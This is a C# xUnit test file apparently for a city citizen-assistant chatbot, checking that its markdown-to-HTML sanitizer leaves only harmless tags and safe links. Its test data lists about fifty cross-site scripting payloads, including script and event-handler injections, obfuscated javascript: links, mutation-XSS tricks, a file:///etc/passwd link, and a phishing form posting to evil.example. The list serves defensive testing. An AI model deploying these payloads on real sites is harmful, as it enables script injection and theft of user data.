using AngleSharp.Html.Parser;
using CitizenAssistant.Bot.Channels.Web;
using Xunit;

namespace CitizenAssistant.Bot.Tests.Web;

public sealed class Markdown_from_anywhere
{
    private static readonly string[] Harmless = ["html", "head", "body", "p", "br", "strong", "em", "ul", "ol", "li", "a", "h3", "h4", "blockquote", "code", "hr"];

    private readonly SafeHtml _html = new();

    public static TheoryData<string> Hostile { get; } =
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/pixel.png)",
        "![x](javascript:alert(1))",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
        "<embed src=x>",
        "<form action=https://evil.example><input name=iban><button>Weiter</button></form>",
        "<style>body{display:none}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<p style=\"position:fixed;inset:0\">x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\nscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;&#x61;vascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x]( javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](blob:https://evil.example/1)",
        "[x][1]\n\n[1]: javascript:alert(1) \"t\"",
        "<javascript:alert(1)>",
        "[x](https://stuttgart.de \"t\\\" onmouseover=alert(1) x=\\\"\")",
        "[x](https://stuttgart.de/\"onmouseover=\"alert(1))",
        "<div id=text name=text data-form class=message--caseworker>Mensch</div>",
        "<b onclick=alert(1)>x</b>",
        "`<img src=x onerror=alert(1)>`",
        "```html\n<script>alert(1)</script>\n```",
        "<!--><script>alert(1)</script>-->",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<a href=\"https://stuttgart.de\" target=_top ping=https://evil.example>x</a>",
        "</div></li></ol></section><h1>Andere Seite</h1>",
        "\u0000<script>alert(1)</script>",
        "# <script>alert(1)</script>",
        "> <img src=x onerror=alert(1)>",
        "|a|b|\n|-|-|\n|<script>alert(1)</script>|x|",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void becomes_something_that_can_only_be_read(string markdown)
    {
        var html = _html.FromMarkdown(markdown).Value;

        using var page = new HtmlParser().ParseDocument(html);
        Assert.All(page.All, element => Assert.Contains(element.LocalName, Harmless));
        Assert.All(page.All.SelectMany(element => element.Attributes), attribute => Assert.Equal("href", attribute.Name));
        Assert.All(page.QuerySelectorAll("a[href]"), link => Assert.Matches("^(https?:|tel:|mailto:|/|#|[^:]*$)", link.GetAttribute("href")!));
    }

    [Fact]
    public void closes_what_it_opens_so_that_nothing_leaks_into_the_page()
    {
        var html = _html.FromMarkdown("**fett\n\n- eins\n\n> zwei").Value;

        using var page = new HtmlParser().ParseDocument($"<div id=\"in\">{html}</div><p id=\"after\"></p>");
        Assert.Null(page.QuerySelector("#in #after"));
    }

    [Theory]
    [InlineData("**46 €**", "<p><strong>46 €</strong></p>")]
    [InlineData("- Ausweis\n- Foto", "<ul>\n<li>Ausweis</li>\n<li>Foto</li>\n</ul>")]
    [InlineData("[112](tel:112)", "<p><a href=\"tel:112\">112</a></p>")]
    [InlineData("[Kosten](/wissen/personalausweis-beantragen#kosten)", "<p><a href=\"/wissen/personalausweis-beantragen#kosten\">Kosten</a></p>")]
    [InlineData("[Stadt](https://www.stuttgart.de)", "<p><a href=\"https://www.stuttgart.de\">Stadt</a></p>")]
    [InlineData("unter 18 < 24 & älter", "<p>unter 18 &lt; 24 &amp; älter</p>")]
    public void keeps_what_an_answer_needs(string markdown, string html) => Assert.Equal(html, _html.FromMarkdown(markdown).Value.Trim());
}
